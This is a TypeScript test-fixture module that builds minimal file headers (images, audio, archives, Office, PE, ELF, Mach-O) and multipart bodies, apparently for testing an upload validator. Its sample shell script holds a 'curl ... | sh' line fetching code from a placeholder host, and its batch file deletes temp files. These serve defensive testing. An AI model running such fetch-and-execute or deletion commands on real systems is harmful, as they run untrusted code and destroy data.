// Tiny but valid headers of every allowed upload type, and multipart bodies built byte by byte so
// tests control their exact framing.
const enc = new TextEncoder();

export function bytes(...parts: (string | number[] | Uint8Array)[]): Uint8Array {
  const arrays = parts.map((p) => (typeof p === "string" ? Uint8Array.from(p, (ch) => ch.charCodeAt(0)) : Uint8Array.from(p)));
  const out = new Uint8Array(arrays.reduce((n, a) => n + a.length, 0));
  let at = 0;
  for (const a of arrays) {
    out.set(a, at);
    at += a.length;
  }
  return out;
}
const le16 = (n: number) => [n & 0xff, (n >> 8) & 0xff];
const le24 = (n: number) => [n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff];
const le32 = (n: number) => [n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff, (n >>> 24) & 0xff];
const be16 = (n: number) => [(n >> 8) & 0xff, n & 0xff];
const be32 = (n: number) => [(n >>> 24) & 0xff, (n >> 16) & 0xff, (n >> 8) & 0xff, n & 0xff];
const zeros = (n: number) => new Array<number>(n).fill(0);

export const png = (w: number, h: number) =>
  bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], be32(13), "IHDR", be32(w), be32(h), [8, 6, 0, 0, 0], zeros(4), be32(0), "IEND", zeros(4));

export const jpeg = (w: number, h: number) =>
  bytes(
    [0xff, 0xd8],
    [0xff, 0xe0], be16(16), "JFIF\0", [1, 1, 0], be16(1), be16(1), [0, 0],
    [0xff, 0xfe], be16(7), "hello", // a comment segment before the frame header
    [0xff, 0xc0], be16(17), [8], be16(h), be16(w), [3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1],
    [0xff, 0xd9],
  );

export const gif = (w: number, h: number) => bytes("GIF89a", le16(w), le16(h), [0x80, 0, 0], zeros(6), ";");

const riff = (form: string, body: Uint8Array) => bytes("RIFF", le32(4 + body.length), form, body);
export const webpVp8x = (w: number, h: number) => riff("WEBP", bytes("VP8X", le32(10), [0, 0, 0, 0], le24(w - 1), le24(h - 1)));
export const webpVp8 = (w: number, h: number) =>
  riff("WEBP", bytes("VP8 ", le32(10), [0x50, 0x02, 0x00], [0x9d, 0x01, 0x2a], le16(w), le16(h)));
export function webpVp8l(w: number, h: number) {
  const bits = (w - 1) | ((h - 1) << 14); // 14 bits each, then alpha and version (0)
  return riff("WEBP", bytes("VP8L", le32(5), [0x2f], le32(bits)));
}
export const wav = () => riff("WAVE", bytes("fmt ", le32(16), le16(1), le16(1), le32(8000), le32(8000), le16(1), le16(8), "data", le32(4), [128, 128, 128, 128]));

export const pdf = () => bytes("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n");
export const text = () => enc.encode("hello, ünïcödé 👋\nsecond line\n");

/** An OLE2 compound file whose directory (sector 0, right after the header) names `stream`. */
export function ole(stream: string) {
  const header = bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], zeros(16), le16(0x3e), le16(3), le16(0xfffe), le16(9), zeros(512 - 32));
  const entry = (name: string, type: number) => {
    const utf16 = [...name].flatMap((ch) => [ch.charCodeAt(0), 0]);
    return bytes(utf16, zeros(64 - utf16.length), le16(utf16.length + 2), [type], zeros(128 - 67));
  };
  return bytes(header, entry("Root Entry", 5), entry(stream, 2), entry("\x05SummaryInformation", 2), zeros(128));
}

/** A stored (uncompressed) zip with these entries, local headers then the central directory. */
export function zip(names: string[]) {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const name of names) {
    const data = enc.encode(`<${name}/>`);
    const local = bytes("PK\x03\x04", le16(20), le16(0), le16(0), le32(0), le32(0), le32(data.length), le32(data.length), le16(name.length), le16(0), name, data);
    centrals.push(bytes("PK\x01\x02", le16(20), le16(20), le16(0), le16(0), le32(0), le32(0), le32(data.length), le32(data.length), le16(name.length), zeros(12), le32(offset), name));
    locals.push(local);
    offset += local.length;
  }
  const cd = bytes(...centrals);
  return bytes(...locals, cd, "PK\x05\x06", zeros(4), le16(names.length), le16(names.length), le32(cd.length), le32(offset), le16(0));
}

export const webm = (codec = "A_OPUS") =>
  bytes([0x1a, 0x45, 0xdf, 0xa3, 0x9f], [0x42, 0x86, 0x81, 1], [0x42, 0x82, 0x84], "webm", [0x18, 0x53, 0x80, 0x67, 0x01], [0x16, 0x54, 0xae, 0x6b, 0x8c], [0xae, 0x8a, 0xd7, 0x81, 1, 0x86, 0x80 | codec.length], codec);

export const ogg = () => bytes("OggS", [0, 2], zeros(20), [1, 19], "OpusHead", [1, 1], le16(312), le32(48000), le16(0), [0]);

/** Two MPEG-1 Layer III frames (128 kbit/s, 44.1 kHz: 417 bytes each). */
export const mp3Frames = () => bytes([0xff, 0xfb, 0x90, 0x00], zeros(413), [0xff, 0xfb, 0x90, 0x00], zeros(413));
export const mp3Id3 = () => bytes("ID3", [3, 0, 0], [0, 0, 0, 0], mp3Frames());

/** Two ADTS AAC frames of 20 bytes. */
export const adts = () => {
  const frame = bytes([0xff, 0xf1, 0x50, 0x80, 0x02, 0x9f, 0xfc], zeros(13));
  return bytes(frame, frame);
};

export const m4a = () => bytes(be32(24), "ftyp", "M4A ", be32(0), "M4A ", "isom", be32(8), "mdat");
/**
 * ISO media with `brand` as its major brand (MP4 "isom", QuickTime "qt  ", 3GP "3gp5" ...) and one
 * track per handler ("vide", "soun"), its `moov` after the media data as most recorders write it.
 */
export const isoMedia = (brand: string, handlers: string[] = ["vide"]) =>
  bytes(
    be32(24), "ftyp", brand, be32(0), brand, "isom",
    be32(8 + 100), "mdat", zeros(100),
    ...handlers.map((h) => bytes(be32(33), "hdlr", be32(0), be32(0), h, zeros(12), [0])),
  );

export const exe = () => bytes("MZ", [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff], zeros(48), "This program cannot be run in DOS mode.");
/**
 * A PE32+ (x86-64) image's headers as a linker writes them: the DOS header whose e_lfanew (at
 * 0x3c) points at "PE\0\0", the COFF file header, and the start of the optional header.
 */
export const pe = () =>
  bytes(
    "MZ",
    [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff, 0, 0, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0x40],
    zeros(35),
    le32(0x80), // e_lfanew
    [0x0e, 0x1f, 0xba, 0x0e, 0x00, 0xb4, 0x09, 0xcd, 0x21, 0xb8, 0x01, 0x4c, 0xcd, 0x21],
    "This program cannot be run in DOS mode.\r\r\n$",
    zeros(0x80 - 0x40 - 14 - 43),
    "PE",
    [0, 0],
    le16(0x8664), // machine: x86-64
    le16(3), // sections
    le32(0x6560_0000),
    le32(0),
    le32(0),
    le16(0xf0), // optional header size
    le16(0x22), // executable, large address aware
    le16(0x20b), // PE32+
  );
/** DOS's "MZ" followed by printable and control bytes only: no NUL, valid UTF-8, still a program to Windows. */
export const mzText = () => bytes("MZ", "\x01\x02\x03\x04 \x1b[0m PAYLOAD \x7f\x08");
export const elf = () => bytes([0x7f], "ELF", [2, 1, 1, 0], zeros(8), le16(2), le16(0x3e), le32(1));
/** A 64-bit Mach-O header (x86-64, MH_EXECUTE), as written on disk (little-endian). */
export const machO = () => bytes([0xcf, 0xfa, 0xed, 0xfe], le32(0x0100_0007), le32(3), le32(2), le32(16), le32(1288), le32(0x0020_0085), le32(0));
/** A universal (fat) Mach-O: big-endian magic, two architectures. */
export const machOFat = () => bytes([0xca, 0xfe, 0xba, 0xbe], be32(2), be32(0x0100_0007), be32(3), be32(0x1000), be32(0x2000), be32(12));
export const wasm = () => bytes([0, 0x61, 0x73, 0x6d], le32(1));
export const shellScript = () => enc.encode("#!/bin/sh\nset -e\ncurl -s https://example.invalid/x | sh\n");
export const bomShellScript = () => bytes([0xef, 0xbb, 0xbf], "  #!/usr/bin/env python3\nprint('hi')\n");
export const batchFile = () => enc.encode("@echo off\r\nrem cleanup\r\ndel /q %TEMP%\\*\r\n");
export const regFile = () => enc.encode("Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\x]\r\n");

export type Part = { name: string; filename?: string; type?: string; data: Uint8Array | string };

/** A multipart/form-data body; `epilogue` follows the closing delimiter (most clients send CRLF). */
export function multipart(parts: Part[], opts: { boundary?: string; epilogue?: string } = {}) {
  const boundary = opts.boundary ?? `----edgechat${Math.random().toString(36).slice(2)}`;
  const chunks: Uint8Array[] = [];
  for (const p of parts) {
    const disposition = `form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ""}`;
    const type = p.filename !== undefined ? `\r\nContent-Type: ${p.type ?? "application/octet-stream"}` : "";
    chunks.push(enc.encode(`--${boundary}\r\nContent-Disposition: ${disposition}${type}\r\n\r\n`));
    chunks.push(typeof p.data === "string" ? enc.encode(p.data) : p.data);
    chunks.push(enc.encode("\r\n"));
  }
  chunks.push(enc.encode(`--${boundary}--${opts.epilogue ?? "\r\n"}`));
  return { body: bytes(...chunks), contentType: `multipart/form-data; boundary=${boundary}` };
}
